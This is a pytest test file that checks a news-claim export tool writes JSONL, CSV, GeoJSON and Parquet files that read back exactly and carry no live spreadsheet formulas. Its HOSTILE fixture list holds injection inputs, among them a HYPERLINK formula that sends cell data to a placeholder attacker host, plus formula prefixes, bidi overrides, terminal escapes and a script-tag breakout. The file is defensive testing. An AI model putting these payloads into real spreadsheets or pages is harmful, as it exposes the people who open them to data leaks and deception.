"""What every form of an export does: what was written is read back whole, by a strict reader, whatever the texts hold."""

import csv
import hashlib
import io
import json
import sys
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from pathlib import Path
from typing import Any, BinaryIO

import pyarrow.parquet
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from demarche.errors import InputError, InstallationError
from demarche.export.csv import plain_cell, safe_cell, write_csv
from demarche.export.forms import FORMS, OF_TABLES, Form, form_of, write_file
from demarche.export.geojson import write_geojson
from demarche.export.jsonl import write_jsonl
from demarche.export.parquet import write_parquet
from demarche.export.tables import TABLES
from demarche.record import Agreement, Attribution, Document, Event, Figure, Party, Place, PlaceName, Reading, SpeechAct, Time

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"open")',
    "+2 ships",
    "-3 posts",
    "@SUM(1)",
    "\t=1",
    "\r\n=1",
    "'=1",
    "  =1",
    "＝1",
    'said "no", twice',
    "one\nline\r\nmore\u2028and\u0085more",
    "\u202eknil\u202c",
    "\x1b[31mred\x07",
    "کاردوویا نفی کرد",
    "𐎠𐎼𐎡𐎹 sent 🚢🚢",
    "a; b, c",
    "</script><b>",
]

Row = dict[str, Any]


def told(deed: str, number: int = 0, lat: float | None = -5.25) -> Reading:
    """A Reading in which Ostrend says that the guards did the deed at Veshin on 3 May."""
    text = f"\U0001f6a2 Ostrend said on 3 May that guards {deed} at Veshin {number}. The island is quiet."

    def span(words: str) -> tuple[int, int]:
        start = text.index(words)
        return start, start + len(words)

    return Reading(
        document=Document(
            id=hashlib.sha256(text.encode()).hexdigest(), uri=f"{deed}.txt", title=deed, outlet=deed, language="en", published="2031-05-03", text=text
        ),
        sentences=((0, text.index(" The island")), span("The island is quiet.")),
        parties=(
            Party(id="p1", name="Ostrend", kind="state", code="OST GOV", mentions=(span("Ostrend"),)),
            Party(id="p2", name=deed, kind="armed_force", mentions=(span("guards"),)),
        ),
        attributions=(Attribution(id="a1", source="p1", source_span=span("Ostrend"), cue=span("said"), content=(span(deed),), manner="indirect"),),
        events=(
            Event(id="e1", trigger=span(deed), type="ASSAULT", actors=("p2",), places=("l1",), time="t1", status="claimed", said_in="a1", figures=("f1",)),
            Event(id="e2", trigger=span("quiet"), type=None, status="reported", places=("l2",)),
        ),
        times=(Time(id="t1", span=span("3 May"), type="DATE", value="2031-05-03", start="2031-05-03", end="2031-05-03"),),
        places=(
            Place(id="l1", name="Veshin", kind="island", mentions=(span("Veshin"),), lat=lat, lon=131.5, names=(PlaceName(name="Harrow", used_by=deed),)),
            Place(id="l2", name="The island", kind="island", mentions=(span("The island"),)),
        ),
        figures=(Figure(id="f1", span=span(f"{number}."), value=-float(number), unit=deed, said_in="a1"),),
        agreements=(Agreement(id="g1", span=span(deed), agreement=(deed,), name=deed, relation="breached", party="p2", said_in="a1"),),
        speech_acts=(SpeechAct(id="s1", kind="denial", span=span(deed), by="p1", toward=("p2",), content=(span(deed),), said_in="a1"),),
    )


def jsonl_rows(data: bytes) -> Iterator[Row]:
    for line in data.decode().splitlines():
        reading = Reading.from_dict(json.loads(line))
        for e in reading.events:
            speaker = "Ostrend" if e.said_in else None
            yield {
                "document": reading.document.id,
                "start": e.trigger[0],
                "end": e.trigger[1],
                "words": reading.words(e.trigger),
                "speaker": speaker,
                "status": e.status,
            }


def csv_cells(data: bytes) -> tuple[list[str], list[list[str]]]:
    head, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True)
    assert all(len(row) == len(head) for row in rows)
    return head, rows


def csv_rows(data: bytes) -> Iterator[Row]:
    head, rows = csv_cells(data)
    for row in rows:
        read: Row = {name: plain_cell(cell) or None for name, cell in zip(head, row, strict=True)}
        yield read | {"start": int(read["start"]), "end": int(read["end"])}


def geojson_rows(data: bytes) -> Iterator[Row]:
    collection = json.loads(data, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection
    for feature in collection["features"]:
        assert set(feature) == {"type", "id", "geometry", "properties"}
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        longitude, latitude = feature["geometry"]["coordinates"]
        assert (longitude, latitude) == (131.5, -5.25)
        assert feature["properties"]["claim"] is True
        yield feature["properties"]


def parquet_rows(data: bytes) -> Iterator[Row]:
    yield from pyarrow.parquet.read_table(io.BytesIO(data)).to_pylist()


READERS: dict[Form, Callable[[bytes], Iterator[Row]]] = {"jsonl": jsonl_rows, "csv": csv_rows, "geojson": geojson_rows, "parquet": parquet_rows}


WRITERS: dict[Form, Callable[[Iterable[Reading], BinaryIO], object]] = {
    "jsonl": write_jsonl,
    "csv": partial(write_csv, table=TABLES["events"]),
    "geojson": write_geojson,
    "parquet": partial(write_parquet, table=TABLES["events"]),
}


@pytest.fixture(params=FORMS)
def form(request: pytest.FixtureRequest) -> Form:
    found: Form = request.param
    return found


def exported(readings: Iterable[Reading], target: Path, form: Form, table: str = "events") -> bytes:
    write_file(readings, target, form, table)
    return target.read_bytes()


def test_every_span_still_points_at_the_text_whatever_the_text_holds(form: Form, tmp_path: Path) -> None:
    readings = [told(deed, number) for number, deed in enumerate(HOSTILE)]
    texts = {reading.document.id: reading.document.text for reading in readings}
    rows = list(READERS[form](exported(readings, tmp_path / "out", form)))
    deeds = [row for row in rows if row["status"] == "claimed"]
    assert [row["words"] for row in deeds] == HOSTILE
    assert all(texts[row["document"]][row["start"] : row["end"]] == row["words"] for row in rows)
    assert {row["speaker"] for row in deeds} == {"Ostrend"}


def test_an_empty_project_gives_a_file_that_a_strict_reader_takes(form: Form, tmp_path: Path) -> None:
    assert list(READERS[form](exported([], tmp_path / "out", form))) == []


def test_a_file_that_is_there_stays_unless_it_is_to_be_replaced(form: Form, tmp_path: Path) -> None:
    target = tmp_path / "out"
    target.write_text("dear")
    with pytest.raises(InputError, match="--force"):
        write_file([told("left")], target, form)
    assert target.read_text() == "dear"
    assert write_file([told("left")], target, form, replace=True).documents == 1
    assert len(list(READERS[form](target.read_bytes()))) >= 1


def test_an_export_that_fails_leaves_the_old_file_and_nothing_else(form: Form, tmp_path: Path) -> None:
    def broken() -> Iterator[Reading]:
        yield told("left")
        raise OSError("the disk is gone")

    target = tmp_path / "out"
    target.write_text("dear")
    with pytest.raises(OSError, match="the disk is gone"):
        write_file(broken(), target, form, replace=True)
    assert [(file.name, file.read_text()) for file in tmp_path.iterdir()] == [("out", "dear")]


@pytest.mark.filterwarnings("error")
@settings(max_examples=60, deadline=None)
@given(
    deed=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=30).filter(
        lambda words: words not in "\U0001f6a2 Ostrend said on 3 May that guards "
    )
)
def test_any_text_at_all_comes_back_character_for_character(deed: str) -> None:
    reading = told(deed)
    for form in FORMS:
        stream = io.BytesIO()
        WRITERS[form]([reading], stream)
        (row, *_) = READERS[form](stream.getvalue())
        assert row["words"] == deed
        assert reading.document.text[row["start"] : row["end"]] == deed


@given(st.text("='+-@\t\r\n ＝a", max_size=8))
def test_an_apostrophe_before_a_formula_can_be_taken_off_again(words: str) -> None:
    assert plain_cell(safe_cell(words)) == words


def test_a_link_is_followed_and_what_is_no_file_is_no_target(tmp_path: Path) -> None:
    (tmp_path / "real").write_text("old")
    (tmp_path / "link").symlink_to(tmp_path / "real")
    write_file([told("left")], tmp_path / "link", "jsonl", replace=True)
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "real").read_text() != "old"
    with pytest.raises(InputError, match="no regular file"):
        write_file([], Path("/dev/null"), "jsonl", replace=True)
    with pytest.raises(InputError, match="no folder"):
        write_file([], tmp_path / "none" / "out", "jsonl")


def test_jsonl_gives_back_the_readings_themselves(tmp_path: Path, reading: Reading) -> None:
    readings = [reading, *map(told, HOSTILE)]
    lines = exported(readings, tmp_path / "out", "jsonl").decode().splitlines()
    assert [Reading.from_dict(json.loads(line)) for line in lines] == readings


def test_no_cell_of_a_csv_is_a_formula_and_numbers_are_numbers(tmp_path: Path) -> None:
    for table in TABLES:
        head, rows = csv_cells(exported([told(deed, n) for n, deed in enumerate(HOSTILE)], tmp_path / table, "csv", table))
        kinds = {column.name: column.kind for column in TABLES[table].columns}
        for row in rows:
            for name, cell in zip(head, row, strict=True):
                if kinds[name] in ("whole", "number"):
                    assert not cell or float(cell) is not None
                else:
                    assert cell.lstrip(" ")[:1] not in set("=+-@\t\r\n＝＋－＠") - {""}, (name, cell)
    assert "-5.25" in (tmp_path / "places").read_text(encoding="utf-8-sig")


def test_a_csv_has_beside_it_that_its_rows_are_claims_and_what_each_column_means(tmp_path: Path) -> None:
    head, _ = csv_cells(exported([told("left")], tmp_path / "deeds.csv", "csv"))
    said = json.loads((tmp_path / "deeds.csv-metadata.json").read_text(encoding="utf-8"))
    assert said["url"] == "deeds.csv"
    assert "not established facts" in said["dc:description"]
    assert [column["name"] for column in said["tableSchema"]["columns"]] == head
    assert all(column["dc:description"] for column in said["tableSchema"]["columns"])


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("form", OF_TABLES)
def test_each_table_names_the_document_and_the_words_of_each_row(form: Form, table: str, tmp_path: Path, reading: Reading) -> None:
    readings = [reading, told("left")]
    texts = {r.document.id: r.document.text for r in readings}
    rows = list(READERS[form](exported(readings, tmp_path / "out", form, table)))
    assert len(rows) == sum(len(getattr(r, table)) if table != "documents" else 1 for r in readings)
    assert all(texts[row["document"]][row["start"] : row["end"]] == row["words"] for row in rows)
    assert [column.name for column in TABLES[table].columns] == list(rows[0])


def test_events_without_coordinates_are_counted_and_not_put_anywhere(tmp_path: Path) -> None:
    collection = json.loads(exported([told("left"), told("returned", lat=None), told("stayed", lat=95.0)], tmp_path / "out", "geojson"))
    assert len(collection["features"]) == 1
    assert (collection["events"], collection["unplaced"]) == (3, 2)  # a deed of no type is on no map
    properties = collection["features"][0]["properties"]
    assert properties["passage"].endswith("at Veshin 0.")
    assert (properties["speaker"], properties["status"], properties["type"], properties["happened"]) == ("Ostrend", "claimed", "ASSAULT", "2031-05-03")


def test_a_voice_within_a_voice_and_the_outlets_own_are_told_apart(tmp_path: Path, reading: Reading) -> None:
    rows = {row["id"]: row for row in parquet_rows(exported([reading], tmp_path / "out", "parquet"))}
    assert (rows["e1"]["voice"], rows["e1"]["speaker"], rows["e1"]["through"]) == ("source", "the ministry", [])
    assert (rows["e2"]["status"], rows["e2"]["speaker"], rows["e2"]["through"]) == ("denied", "Ostrend", ["the ministry"])
    own = {row["id"]: row for row in parquet_rows(exported([told("left")], tmp_path / "own", "parquet"))}["e2"]
    assert (own["voice"], own["speaker"], own["status"]) == ("outlet", None, "reported")


def test_without_pyarrow_one_is_told_what_to_install_and_no_file_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(InstallationError, match=r"demarche\[scale\]"):
        write_file([told("left")], tmp_path / "out.parquet", "parquet")
    assert list(tmp_path.iterdir()) == []


def test_the_ending_tells_the_form_and_another_is_asked_for() -> None:
    assert [form_of(Path(f"a.{ending}")) for ending in ("jsonl", "CSV", "geojson", "parquet")] == ["jsonl", "csv", "geojson", "parquet"]
    with pytest.raises(InputError, match="--form"):
        form_of(Path("a.xlsx"))
